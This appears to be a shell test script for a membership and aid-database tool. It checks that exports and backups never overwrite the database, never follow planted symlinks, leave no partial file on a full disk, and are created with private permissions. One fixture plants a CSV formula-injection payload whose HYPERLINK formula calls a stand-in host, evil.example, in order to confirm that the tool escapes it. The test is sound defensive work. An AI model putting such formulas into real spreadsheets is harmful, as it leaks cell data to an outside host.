# Files written for a user are whole or absent (issue rows 2, 3, 7, 8, 19):
# a full disk (a real small tmpfs) leaves no file and exits 74; the database
# and its side files are never an output (73); links are not followed; an
# existing file only with --force; personal data is created 0600.
. tests/lib.sh
DB=$(demo_db)
E() { ud --db "$DB" "$@"; }
umask 022
digest() { sqlite3 -batch "$1" .dump | sha256sum | cut -d' ' -f1; }
mode() { stat -c %a "$1"; }
# leftovers DIR: files in DIR besides those named after it
leftovers() { d=$1; shift; ls -A "$d" | grep -vxF "$(printf '%s\n' "$@")" | tr '\n' ' '; }

# --- the database and its side files are never an output ---
before=$(digest "$DB")
size_before=$(stat -c %s "$DB")
for target in "$DB" "$DB-wal" "$DB-shm" "$DB-journal" "$DB.v1-20260101-000000.bak"; do
    name=$(basename "$target")
    expect_rc 73 "report members -o $name refused" E report members -o "$target"
    expect_rc 73 "export aid -o $name --force refused" E export aid -o "$target" --force
    expect_rc 73 "backup $name refused" E backup "$target"
done
contains "$TMP/err" "数据库文件" "the message says it is the database"
(cd "$(dirname "$DB")" && expect_rc 73 "a relative name of the database refused" ud --db "$DB" report members --format xlsx -o "./$(basename "$DB")")
ln "$DB" "$TMP/hardlink.db"
expect_rc 73 "a hard link to the database refused, even with --force" E report members -o "$TMP/hardlink.db" --force
rm -f "$TMP/hardlink.db"
ln -s "$DB" "$TMP/dblink.csv"
expect_rc 73 "a symlink to the database refused, even with --force" E report members --format csv -o "$TMP/dblink.csv" --force
rm -f "$TMP/dblink.csv"
equals "$(digest "$DB")" "$before" "the database's content is unchanged after all that"
check "the database file is still there, as large as before" test "$(stat -c %s "$DB")" -ge "$size_before"
expect_rc 0 "…and still passes check" E check

# --- an existing file only with --force; links not followed ---
mkdir -p "$TMP/out1"
echo "keep me" >"$TMP/out1/r.csv"
expect_rc 73 "report -o over an existing file refused" E report members --format csv -o "$TMP/out1/r.csv"
contains "$TMP/err" "--force" "the message names --force"
equals "$(cat "$TMP/out1/r.csv")" "keep me" "the existing file is untouched"
expect_rc 0 "…replaced with --force" E report members --format csv -o "$TMP/out1/r.csv" --force
contains "$TMP/out1/r.csv" "会员" "the new report is there"
echo "secret dotfile" >"$TMP/bashrc"
ln -s "$TMP/bashrc" "$TMP/out1/roster.xlsx"
expect_rc 73 "a planted symlink under the export's name is refused" E export aid -o "$TMP/out1/roster.xlsx"
expect_rc 73 "…with --force too: a link is neither followed nor replaced" E export aid -o "$TMP/out1/roster.xlsx" --force
contains "$TMP/err" "符号链接" "the message says it is a symbolic link"
equals "$(cat "$TMP/bashrc")" "secret dotfile" "the link's target was not written through"
check "the link is still there, unchanged" test -L "$TMP/out1/roster.xlsx"
# /dev/stdout is such a link (to /proc/self/fd/1): --force must not replace
# it. Tried on a copy of it, so that a build with the bug cannot damage the host.
ln -s /proc/self/fd/1 "$TMP/out1/stdout"
expect_rc 73 "-o LINK-TO-/proc/self/fd/1 --force is refused, not replaced" E report members -o "$TMP/out1/stdout" --force
check "the link is still a link" test -L "$TMP/out1/stdout"
# the database's live -wal under another name (a link to the database)
ln -s "$DB" "$TMP/dblink.db"
expect_rc 73 "the -wal of a database opened through a link is refused" ud --db "$TMP/dblink.db" report members -o "$DB-wal" --force
rm -f "$TMP/dblink.db"
# killed at the fsync of the finished output, just before it gets its name:
# nothing is left, not even a hidden temporary
if command -v strace >/dev/null && strace -o /dev/null true 2>/dev/null; then
    before_kill=$(ls -A "$TMP/out1" | sort | tr '\n' ' ')
    for fmt in xlsx csv; do
        ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 strace -f -o /dev/null -e trace=fsync \
            -e inject=fsync:signal=KILL:when=1 "$UD_BIN" --db "$DB" report members --format $fmt -o "$TMP/out1/k.$fmt" \
            >/dev/null 2>&1
        equals "$?" 137 "report --format $fmt killed at its fsync"
        equals "$(ls -A "$TMP/out1" | sort | tr '\n' ' ')" "$before_kill" "…leaves no file, not even a hidden temporary"
    done
else
    skip "strace cannot trace here: the kill before the rename is not tried"
fi
ln -s "$TMP/bashrc" "$TMP/out1/b.db"
expect_rc 73 "backup onto a planted symlink refused" E backup "$TMP/out1/b.db"
equals "$(cat "$TMP/bashrc")" "secret dotfile" "backup did not write through the link"
ln -s "$TMP/bashrc" "$TMP/out1/t.txt"
expect_rc 73 "report -o onto a planted symlink refused" E report members -o "$TMP/out1/t.txt"
equals "$(cat "$TMP/bashrc")" "secret dotfile" "report did not write through the link"
expect_rc 73 "a directory as the output refused" E report members -o "$TMP/out1"
expect_rc 73 "an output in a missing directory refused" E report members -o "$TMP/nowhere/r.txt"

# --- a name that a spreadsheet would run as a formula is shown, not run ---
printf 'code,name,kind,parent\nBL-EVIL,"=HYPERLINK(""http://evil.example/""&A1,""点此"")",street_federation,BL\n' >"$TMP/evil.csv"
expect_rc 0 "an organization named like a formula imports (it is only text)" E import orgs "$TMP/evil.csv"
expect_rc 0 "report members as CSV" E report members --format csv -o "$TMP/evil-report.csv"
contains "$TMP/evil-report.csv" "\"'=HYPERLINK(" "the formula-like name is written with a leading apostrophe"
lacks "$TMP/evil-report.csv" ",=HYPERLINK(" "…never bare"
$PY - "$TMP/evil-report.csv" >"$TMP/py.out" 2>&1 <<'PYEOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))
cells = [c for r in rows for c in r]
bad = [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c.lstrip("-").replace(".", "").isdigit()))]
sys.exit(f"cells a spreadsheet would run: {bad}" if bad else 0)
PYEOF
if [ $? -eq 0 ]; then ok "no cell of the CSV starts like a formula"; else not_ok "no cell of the CSV starts like a formula"; diag "$TMP/py.out"; fi
before=$(digest "$DB")

# --- personal data is private: 0600 under umask 022 ---
mkdir -p "$TMP/modes"
E user add off1 --role officer >/dev/null
expect_rc 0 "backup" E backup "$TMP/modes/backup.db"
equals "$(mode "$TMP/modes/backup.db")" 600 "a backup is created 0600"
check "the backup is a database holding the members" test "$(sql "$TMP/modes/backup.db" 'SELECT count(*) FROM members')" = "$(sql "$DB" 'SELECT count(*) FROM members')"
expect_rc 0 "export aid --full-id" E --user off1 export aid --full-id -o "$TMP/modes/full.xlsx"
equals "$(mode "$TMP/modes/full.xlsx")" 600 "a --full-id roster is created 0600"
expect_rc 0 "report xlsx" E report members --format xlsx -o "$TMP/modes/m.xlsx"
equals "$(mode "$TMP/modes/m.xlsx")" 600 "a report file is created 0600"
expect_rc 0 "init a new database" ud --db "$TMP/modes/new.db" init
equals "$(mode "$TMP/modes/new.db")" 600 "a new database is created 0600"
equals "$(leftovers "$TMP/modes" backup.db full.xlsx m.xlsx new.db new.db-wal new.db-shm)" "" "no temporary files left beside them"
ud --db "$TMP/modes/old.db" migrate up --to 1 >/dev/null
expect_rc 0 "migrating a version-1 database" ud --db "$TMP/modes/old.db" migrate up
bak=$(ls "$TMP/modes"/old.db.v1-*.bak 2>/dev/null | head -1)
check "the migration left a backup" test -n "$bak"
equals "$(mode "$bak")" 600 "the backup taken before a migration is 0600"
rm -f "$TMP/modes"/old.db*
(umask 077 && ud --db "$DB" report members --format csv -o "$TMP/modes/strict.csv")
equals "$(mode "$TMP/modes/strict.csv")" 600 "a stricter umask is kept"

# --- a full disk: nothing left, exit 74, no count claimed ---
FULL=$TMP/full
small_tmpfs "$FULL" 96k 1777 || { echo "1..$TESTS_N"; exit 0; }
# a roster too large for the space left: fill the disk so that a tenth to
# nine tenths of what the roster needs is free
E user add off2 --role officer >/dev/null
rows=$(sql "$DB" "SELECT count(*) FROM aid_grants WHERE status <> 'cancelled'")
check "the demo has grants to export ($rows)" test "$rows" -gt 50
E --user off2 export aid --full-id -o "$TMP/sized.xlsx" >/dev/null
need=$(( $(stat -c %s "$TMP/sized.xlsx") / 1024 + 1 ))
total=$(df -k --output=avail "$FULL" | tail -1)
for pct in 10 40 70 90; do
    rm -f "$FULL"/fill
    free=$(( need * pct / 100 ))
    dd if=/dev/zero of="$FULL/fill" bs=1k count=$(( total - free )) 2>/dev/null
    expect_rc 74 "export aid with $pct% of the roster's $need KiB free exits 74" E --user off2 export aid --full-id -o "$FULL/aid.xlsx"
    lacks "$TMP/out" "已导出" "…and claims no count"
    equals "$(leftovers "$FULL" fill)" "" "…and leaves no file"
done
contains "$TMP/err" "aid.xlsx" "the message names the file"
rm -f "$FULL/fill"
dd if=/dev/zero of="$FULL/fill" bs=1k count=$(( total - 8 )) 2>/dev/null
expect_rc 74 "backup on a full disk exits 74" E backup "$FULL/b.db"
equals "$(leftovers "$FULL" fill)" "" "…and leaves no file (no -journal either)"
contains "$TMP/err" "b.db" "the message names the file"
rm -f "$FULL/fill"
dd if=/dev/zero of="$FULL/fill" bs=1k count=$(( total + 8 )) 2>/dev/null
expect_rc 74 "report disputes --format xlsx on a full disk exits 74" E report disputes --year 2026 --format xlsx -o "$FULL/r.xlsx"
equals "$(leftovers "$FULL" fill)" "" "…and leaves no file"
expect_rc 74 "report disputes --format csv on a full disk exits 74" E report disputes --year 2026 --format csv -o "$FULL/r.csv"
equals "$(leftovers "$FULL" fill)" "" "…and leaves no file"
for k in cases members; do
    expect_rc 74 "export $k as CSV on a full disk exits 74" E export $k -o "$FULL/$k.csv"
    equals "$(leftovers "$FULL" fill)" "" "…and leaves no file"
    contains "$TMP/err" "磁盘空间不足" "…and says why: the disk is full"
done
rm -f "$FULL/fill"
expect_rc 0 "with room again the same export succeeds" E --user off2 export aid -o "$FULL/aid.xlsx"
$PY - "$FULL/aid.xlsx" "$rows" >"$TMP/py.out" 2>&1 <<'EOF'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
n = sum(1 for r in ws.iter_rows(min_row=4) if isinstance(r[0].value, int))
sys.exit(0 if n == int(sys.argv[2]) else f"{n} rows, expected {sys.argv[2]}")
EOF
if [ $? -eq 0 ]; then ok "…and holds every grant ($rows rows, read back with openpyxl)"; else not_ok "roster rows"; diag "$TMP/py.out"; fi
# --- a file's extension and its format agree ---
mkdir -p "$TMP/ext"
expect_rc 64 "report --format csv -o r.xlsx refused" E report members --format csv -o "$TMP/ext/r.xlsx"
contains "$TMP/err" "扩展名" "…the message names the extension"
expect_rc 64 "report --format xlsx -o r.CSV refused (any case)" E report members --format xlsx -o "$TMP/ext/r.CSV"
expect_rc 64 "export aid -o r.csv refused: the roster is xlsx" E export aid -o "$TMP/ext/r.csv"
equals "$(leftovers "$TMP/ext")" "" "…and nothing is written"
expect_rc 0 "report -o r.xlsx without --format" E report members -o "$TMP/ext/r.xlsx"
equals "$(head -c 2 "$TMP/ext/r.xlsx")" "PK" "…writes an xlsx (a zip), not text"
expect_rc 0 "report -o r.csv without --format" E report members -o "$TMP/ext/r.csv"
equals "$(head -c 3 "$TMP/ext/r.csv" | od -An -tx1 | tr -d ' ')" "efbbbf" "…writes CSV (with its BOM)"
expect_rc 0 "report -o r.json without --format" E report members -o "$TMP/ext/r.json"
"$PY" -c 'import json, sys; json.load(open(sys.argv[1]))' "$TMP/ext/r.json" && ok "…writes JSON that parses" || not_ok "…writes JSON that parses"
expect_rc 0 "a name without a known extension takes --format" E report members --format csv -o "$TMP/ext/members-2026"
equals "$(head -c 3 "$TMP/ext/members-2026" | od -An -tx1 | tr -d ' ')" "efbbbf" "…as CSV"
echo "1..$TESTS_N"
